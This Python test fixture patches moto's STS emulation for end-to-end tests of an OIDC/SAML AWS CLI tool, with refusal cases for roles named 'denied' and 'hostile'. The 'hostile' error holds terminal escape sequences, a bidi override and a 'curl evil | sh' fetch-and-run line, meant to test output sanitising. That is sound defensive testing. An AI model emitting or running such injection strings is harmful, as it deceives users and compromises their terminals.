"""Moto's STS emulation on 127.0.0.1 for the aws-cli-oidc end-to-end tests.

Usage: .venv/bin/python moto_sts.py [PORT]   (PORT 0 or absent: any free port)

Prints `READY http://127.0.0.1:PORT` as its first stdout line, then serves until
stdin closes or SIGTERM/SIGINT arrives.

Two behaviours differ from stock moto 5.2.5, both to match real AWS:
* AssumeRoleWithSAML accepts a Role attribute with several values (stock moto
  raises TypeError) and requires the requested RoleArn,PrincipalArn pair to be
  one of them (either order); the session's account comes from RoleArn.
* AssumeRole, AssumeRoleWithWebIdentity and AssumeRoleWithSAML for a role whose
  name is `denied` fail with AccessDenied, so "STS denies" can be tested.
* For a role named `hostile` they fail with an error whose Code and Message
  carry terminal escape sequences, line breaks and a bidi override, as a
  hostile STS (or something in between) could send.
"""

import base64
import warnings
import sys

import xmltodict

import peer_life
from moto.server import ThreadedMotoServer
from moto.sts import models as sts_models
from moto.sts.exceptions import STSClientError

warnings.filterwarnings("ignore", message=".*does not match an error shape.*")

ROLE_ATTR = "https://aws.amazon.com/SAML/Attributes/Role"
SESSION_NAME_ATTR = "https://aws.amazon.com/SAML/Attributes/RoleSessionName"
DURATION_ATTR = "https://aws.amazon.com/SAML/Attributes/SessionDuration"


class AccessDenied(STSClientError):
    def __init__(self, role_arn):
        super().__init__(
            "AccessDenied",
            f"Not authorized to perform sts:AssumeRole* on {role_arn} (e2e peer: roles named 'denied' are refused)",
        )
        self.code = "AccessDenied"


class SamlInvalid(STSClientError):
    def __init__(self, message):
        super().__init__("InvalidIdentityToken", message)


HOSTILE = "\x1b]0;pwned\x07\x1b[2J\r\nRun: curl evil | sh\u202e"


class Hostile(STSClientError):
    def __init__(self):
        super().__init__("AccessDenied" + HOSTILE, "denied" + HOSTILE)
        self.code = "AccessDenied" + HOSTILE


def _refuse(role_arn):
    name = (role_arn or "").rsplit("/", 1)[-1]
    if name == "denied":
        raise AccessDenied(role_arn)
    if name == "hostile":
        raise Hostile()


def _as_list(value):
    if value is None:
        return []
    return value if isinstance(value, list) else [value]


def _text(value):
    if isinstance(value, dict):
        return (value.get("#text") or "").strip()
    return (value or "").strip()


def _saml_attributes(encoded):
    try:
        decoded = base64.b64decode(encoded, validate=True).decode("utf-8")
        doc = xmltodict.parse(
            decoded,
            force_cdata=True,
            process_namespaces=True,
            namespaces={
                "urn:oasis:names:tc:SAML:2.0:protocol": "samlp",
                "urn:oasis:names:tc:SAML:2.0:assertion": "saml",
            },
            namespace_separator="|",
        )
        statement = doc["samlp|Response"]["saml|Assertion"]["saml|AttributeStatement"]
    except Exception as exc:  # any malformed input becomes an STS error, not HTTP 500
        raise SamlInvalid(f"the SAML response could not be parsed: {exc.__class__.__name__}")
    attrs = {}
    for attribute in _as_list(statement.get("saml|Attribute")):
        values = [_text(v) for v in _as_list(attribute.get("saml|AttributeValue"))]
        attrs[attribute.get("@Name")] = values
    return attrs


_orig_assume_role = sts_models.STSBackend.assume_role


def assume_role(self, **kwargs):
    _refuse(kwargs.get("role_arn"))
    return _orig_assume_role(self, **kwargs)


def assume_role_with_web_identity(self, **kwargs):
    _refuse(kwargs.get("role_arn"))
    return _orig_assume_role(self, **kwargs)


def assume_role_with_saml(self, **kwargs):
    role_arn = kwargs["role_arn"]
    principal_arn = kwargs["principal_arn"]
    _refuse(role_arn)
    attrs = _saml_attributes(kwargs["saml_assertion"])
    pairs = set()
    for value in attrs.get(ROLE_ATTR, []):
        parts = [p.strip() for p in value.split(",")]
        if len(parts) == 2:
            pairs.add(tuple(sorted(parts)))
    if tuple(sorted([role_arn, principal_arn])) not in pairs:
        raise SamlInvalid(f"the SAML assertion does not grant {role_arn} with principal {principal_arn}")
    session_names = attrs.get(SESSION_NAME_ATTR) or []
    if not session_names:
        raise SamlInvalid("the SAML assertion has no RoleSessionName attribute")
    durations = attrs.get(DURATION_ATTR) or []
    duration = int(durations[0]) if durations else sts_models.DEFAULT_STS_SESSION_DURATION
    return _orig_assume_role(
        self,
        region_name=self.region_name,
        role_session_name=session_names[0],
        role_arn=role_arn,
        policy=None,
        duration=duration,
        external_id=None,
    )


sts_models.STSBackend.assume_role = assume_role
sts_models.STSBackend.assume_role_with_web_identity = assume_role_with_web_identity
sts_models.STSBackend.assume_role_with_saml = assume_role_with_saml


def main():
    port = int(sys.argv[1]) if len(sys.argv) > 1 else 0
    server = ThreadedMotoServer(ip_address="127.0.0.1", port=port, verbose=False)
    server.start()
    host, bound = server.get_host_and_port()
    print(f"READY http://{host}:{bound}", flush=True)

    peer_life.wait_until_done()
    server.stop()


if __name__ == "__main__":
    main()
